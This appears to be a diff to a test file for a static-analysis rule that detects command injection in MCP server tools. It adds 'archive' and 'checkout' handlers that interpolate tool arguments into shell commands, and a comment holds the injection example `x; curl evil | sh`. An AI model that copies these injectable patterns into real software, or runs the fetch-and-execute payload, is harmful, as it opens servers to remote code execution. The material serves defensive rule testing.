@@ -33,10 +33,19 @@ server.registerTool('show_log', { inputSchema: { ref: z.string() } }, async ({ r
   return { content: [{ type: 'text', text: out }] };
 });
 
+// a script runner: running the script its MCP client sends is the tool's declared purpose (the client
+// approves each call); that capability is reported by destructive-tool-without-annotations, not as an injection
 server.registerTool('run_script', { inputSchema: { script: z.string() } }, async ({ script }) => {
   const args = ['-c', script];
-  // ruleid: llm-output-code-execution
+  // ok: llm-output-code-execution
   const child = spawn('sh', [...args]);
+  return { content: [{ type: 'text', text: String(child.pid) }] };
+});
+
+server.registerTool('archive', { inputSchema: { name: z.string() } }, async ({ name }) => {
+  // the name is formatted into a fixed command line: `x; curl evil | sh` runs too
+  // ruleid: llm-output-code-execution
+  const child = spawn('sh', ['-c', `tar czf ${name}.tgz src`]);
   return { content: [{ type: 'text', text: String(child.pid) }] };
 });
 
@@ -64,9 +73,15 @@ const lowLevel = new Server({ name: 'shell', version: '1.0.0' }, { capabilities:
 lowLevel.setRequestHandler(CallToolRequestSchema, async (request) => {
   const { name, arguments: args } = request.params;
   if (name === 'run') {
+    // a command runner: the whole command is what the client sends
     const command = String(args?.command ?? '');
-    // ruleid: llm-output-code-execution
+    // ok: llm-output-code-execution
     const out = execSync(command).toString();
+    return { content: [{ type: 'text', text: out }] };
+  }
+  if (name === 'checkout') {
+    // ruleid: llm-output-code-execution
+    const out = execSync(`git checkout ${args?.branch}`).toString();
     return { content: [{ type: 'text', text: out }] };
   }
   if (name === 'status') {
@@ -79,7 +94,7 @@ lowLevel.setRequestHandler(CallToolRequestSchema, async (request) => {
 
 lowLevel.setRequestHandler(CallToolRequestSchema, async (request) => {
   const cmd = ['bash', '-c', request.params.arguments?.script as string];
-  // ruleid: llm-output-code-execution
+  // ok: llm-output-code-execution
   const child = spawn(cmd[0], cmd.slice(1));
   return { content: [{ type: 'text', text: String(child.pid) }] };
 });
